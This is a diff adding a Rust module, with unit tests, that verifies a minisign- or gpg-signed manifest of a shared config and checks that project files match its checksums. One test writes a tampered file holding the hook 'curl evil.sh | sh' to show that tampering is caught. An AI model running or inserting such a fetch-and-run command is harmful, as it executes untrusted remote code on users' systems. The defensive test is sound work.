@@ -0,0 +1,176 @@
+use crate::config::settings::SharedConfigSettings;
+use crate::errors::AppError;
+use crate::util::sha256_hex;
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+use walkdir::WalkDir;
+
+/// The file of a shared config with the SHA-256 of every project file, as `sha256sum` writes it.
+pub const MANIFEST: &str = "MANIFEST";
+
+/// Paths relative to the shared config with their checksums.
+fn parse_manifest(raw: &str) -> Result<BTreeMap<String, String>, AppError> {
+  raw
+    .lines()
+    .filter(|line| !line.trim().is_empty())
+    .map(|line| {
+      // sha256sum puts a `*` instead of the second space in binary mode
+      let (sum, path) = line
+        .split_once(' ')
+        .map(|(sum, rest)| (sum, rest.strip_prefix(|c| c == ' ' || c == '*').unwrap_or(rest)))
+        .ok_or_else(|| AppError::UserError(format!("Invalid line in the {} of the shared config: {}", MANIFEST, line)))?;
+      Ok((path.trim_start_matches("./").to_owned(), sum.to_lowercase()))
+    })
+    .collect()
+}
+
+/// Every file below `projects/` has to be in the manifest with its checksum, and every project file in the manifest has to exist.
+fn check_manifest(base: &Path, manifest: &BTreeMap<String, String>) -> Result<(), AppError> {
+  let mut missing: Vec<&String> = manifest.keys().filter(|path| path.starts_with("projects/")).collect();
+  for maybe_entry in WalkDir::new(base.join("projects")).follow_links(true) {
+    let entry = maybe_entry?;
+    if !entry.metadata()?.is_file() {
+      continue;
+    }
+    let relative = entry
+      .path()
+      .strip_prefix(base)
+      .map_err(|_| AppError::InternalError("Project file outside of the shared config"))?
+      .components()
+      .map(|component| component.as_os_str().to_string_lossy().to_string())
+      .collect::<Vec<String>>()
+      .join("/");
+    let expected = manifest
+      .get(&relative)
+      .ok_or_else(|| AppError::UserError(format!("{} of the shared config is not in the signed {}", relative, MANIFEST)))?;
+    if sha256_hex(&fs::read(entry.path())?) != *expected {
+      return Err(AppError::UserError(format!(
+        "{} of the shared config does not match the signed {}",
+        relative, MANIFEST
+      )));
+    }
+    missing.retain(|path| **path != relative);
+  }
+  match missing.first() {
+    Some(path) => Err(AppError::UserError(format!(
+      "{} is in the signed {} but not in the shared config",
+      path, MANIFEST
+    ))),
+    None => Ok(()),
+  }
+}
+
+fn verify_minisign(manifest: &Path, signature: &Path, keys: &[String]) -> Result<bool, AppError> {
+  for key in keys {
+    let status = Command::new("minisign")
+      .arg("-Vq")
+      .arg("-P")
+      .arg(key)
+      .arg("-m")
+      .arg(manifest)
+      .arg("-x")
+      .arg(signature)
+      .output()
+      .map_err(|e| AppError::UserError(format!("Could not run minisign: {}", e)))?
+      .status;
+    if status.success() {
+      return Ok(true);
+    }
+  }
+  Ok(false)
+}
+
+fn normalize_fingerprint(fingerprint: &str) -> String {
+  fingerprint.chars().filter(|c| !c.is_whitespace()).collect::<String>().to_uppercase()
+}
+
+/// The fingerprints of a good signature in the `--status-fd` output of gpg: the signing key and its primary key.
+fn valid_signature_fingerprints(status: &str) -> Vec<String> {
+  status
+    .lines()
+    .filter_map(|line| line.strip_prefix("[GNUPG:] VALIDSIG "))
+    .flat_map(|rest| {
+      let fields: Vec<&str> = rest.split_whitespace().collect();
+      vec![fields.first().copied(), fields.last().copied()]
+    })
+    .flatten()
+    .map(normalize_fingerprint)
+    .collect()
+}
+
+// gpg accepts a signature by any key in the keyring, so the key has to be checked against the configured ones.
+fn verify_gpg(manifest: &Path, signature: &Path, keys: &[String]) -> Result<bool, AppError> {
+  let output = Command::new("gpg")
+    .args(["--batch", "--status-fd", "1", "--verify"])
+    .arg(signature)
+    .arg(manifest)
+    .output()
+    .map_err(|e| AppError::UserError(format!("Could not run gpg: {}", e)))?;
+  let signed_by = valid_signature_fingerprints(&String::from_utf8_lossy(&output.stdout));
+  Ok(output.status.success() && keys.iter().any(|key| signed_by.contains(&normalize_fingerprint(key))))
+}
+
+/// Checks that the `MANIFEST` of the shared config in `base` is signed by one of `keys` (`MANIFEST.minisig` for minisign,
+/// `MANIFEST.asc` for GnuPG) and that the project files match it.
+pub fn verify(base: &Path, keys: &SharedConfigSettings) -> Result<(), AppError> {
+  let manifest = base.join(MANIFEST);
+  if !manifest.is_file() {
+    return Err(AppError::UserError(format!(
+      "The shared config has no {}, but shared_config in the settings requires a signature",
+      MANIFEST
+    )));
+  }
+  let minisign_signature = base.join(format!("{}.minisig", MANIFEST));
+  let gpg_signature = base.join(format!("{}.asc", MANIFEST));
+  let minisign_keys = keys.minisign_keys.clone().unwrap_or_default();
+  let gpg_keys = keys.gpg_keys.clone().unwrap_or_default();
+  let verified = (!minisign_keys.is_empty() && minisign_signature.is_file() && verify_minisign(&manifest, &minisign_signature, &minisign_keys)?)
+    || (!gpg_keys.is_empty() && gpg_signature.is_file() && verify_gpg(&manifest, &gpg_signature, &gpg_keys)?);
+  if !verified {
+    return Err(AppError::UserError(format!(
+      "The {} of the shared config is not signed by any of the keys in shared_config",
+      MANIFEST
+    )));
+  }
+  check_manifest(base, &parse_manifest(&fs::read_to_string(&manifest)?)?)
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+  use crate::testing::temp_dir;
+  use spectral::prelude::*;
+
+  #[test]
+  fn test_check_manifest() {
+    let temp = temp_dir();
+    let base = temp.path();
+    fs::create_dir_all(base.join("projects").join("team")).unwrap();
+    fs::write(base.join("projects").join("team").join("api"), "git = \"git@github.com:acme/api.git\"\n").unwrap();
+    let sum = sha256_hex(b"git = \"git@github.com:acme/api.git\"\n");
+
+    let manifest = parse_manifest(&format!("{}  ./projects/team/api\n", sum)).unwrap();
+    assert_that(&check_manifest(base, &manifest).is_ok()).is_true();
+    assert_that(&parse_manifest(&format!("{} *projects/team/api", sum)).unwrap()).is_equal_to(&manifest);
+
+    fs::write(base.join("projects").join("team").join("api"), "after_clone = \"curl evil.sh | sh\"\n").unwrap();
+    assert_that(&check_manifest(base, &manifest).is_err()).is_true();
+
+    fs::remove_file(base.join("projects").join("team").join("api")).unwrap();
+    fs::write(base.join("projects").join("team").join("web"), "git = \"git@github.com:acme/web.git\"\n").unwrap();
+    assert_that(&check_manifest(base, &manifest).is_err()).is_true();
+  }
+
+  #[test]
+  fn test_valid_signature_fingerprints() {
+    let status = "[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 3AA5C34371567BD2 Alice\n[GNUPG:] VALIDSIG 9B1E2C1F0D4E6A8A77F3D1C2B5A4E6F8C9D0A1B2 2021-01-01 1609459200 0 4 0 1 10 00 27A9C2EB6E1E4A4F0C4E6A8A3AA5C34371567BD2\n";
+    let fingerprints = valid_signature_fingerprints(status);
+    assert_that(&fingerprints).is_equal_to(vec![
+      "9B1E2C1F0D4E6A8A77F3D1C2B5A4E6F8C9D0A1B2".to_owned(),
+      "27A9C2EB6E1E4A4F0C4E6A8A3AA5C34371567BD2".to_owned(),
+    ]);
+    assert_that(&fingerprints.contains(&normalize_fingerprint("27a9 c2eb 6e1e 4a4f 0c4e  6a8a 3aa5 c343 7156 7bd2"))).is_true();
+  }
+}